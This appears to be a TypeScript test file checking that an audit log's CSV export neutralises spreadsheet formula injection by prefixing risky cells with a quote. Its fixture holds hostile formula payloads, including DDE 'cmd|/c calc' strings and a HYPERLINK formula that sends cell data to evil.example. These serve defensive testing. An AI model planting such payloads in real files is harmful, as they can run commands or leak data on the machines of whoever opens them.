import { exportRows } from '../../src/audit/export-rows';
import { formatExport } from '../../src/audit/export-format';
import { PrismaAuditRecorder } from '../../src/audit/prisma-audit-recorder';
import { anIntent, openAuditTestDb, type AuditTestDb } from './audit-test-db';

/** RFC 4180 records: quoted fields may hold commas, doubled quotes, CR and LF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      record.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      records.push([...record, field]);
      record = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return records;
}

async function exportCsv(t: AuditTestDb): Promise<Array<Record<string, string>>> {
  let text = '';
  for await (const chunk of formatExport(exportRows(t.db.prisma, undefined, undefined), 'csv')) text += chunk;
  const [header, ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
}

describe('the CSV export of the audit log', () => {
  let t: AuditTestDb;
  beforeAll(async () => {
    t = await openAuditTestDb();
  });
  afterAll(() => t.close());

  it('prefixes a cell a spreadsheet would run as a formula with a quote, and leaves other cells as they are', async () => {
    const recorder = new PrismaAuditRecorder(t.db.prisma);
    const hostile = {
      actor: {
        id: '@SUM(1+1)*cmd|"/c calc"!A0',
        type: 'API_KEY' as const,
        displayName: '=HYPERLINK("http://evil.example/?"&A1,"open")',
        authMethod: 'api-key',
      },
      userAgent: '+1+cmd|"/c calc"!A0',
      requestId: '-2+3',
      clientIp: '\t=1+1',
      targetId: '\r=1+1',
    };
    const id = await recorder.recordIntent(anIntent('tagResource', hostile));
    await recorder.recordResult(id, { outcome: 'FAILED', errorCode: 'BAD_USER_INPUT', errorMessage: '=cmd|" /C calc"!A0' });

    const [intent, result] = await exportCsv(t);
    expect(intent).toMatchObject({
      actor_id: `'${hostile.actor.id}`,
      actor_display_name: `'${hostile.actor.displayName}`,
      user_agent: `'${hostile.userAgent}`,
      request_id: "'-2+3",
      client_ip: "'\t=1+1",
      target_id: "'\r=1+1",
      // Cells that start harmlessly are not touched.
      operation: 'tagResource',
      actor_type: 'API_KEY',
      outcome: 'PENDING',
    });
    expect(intent!.sequence).toBe('1');
    expect(JSON.parse(intent!.request_parameters!)).toEqual({ rootId: 'r-abcd', type: 'TAG_POLICY' });
    expect(result).toMatchObject({ outcome: 'FAILED', error_code: 'BAD_USER_INPUT', error_message: `'=cmd|" /C calc"!A0` });
  });
});
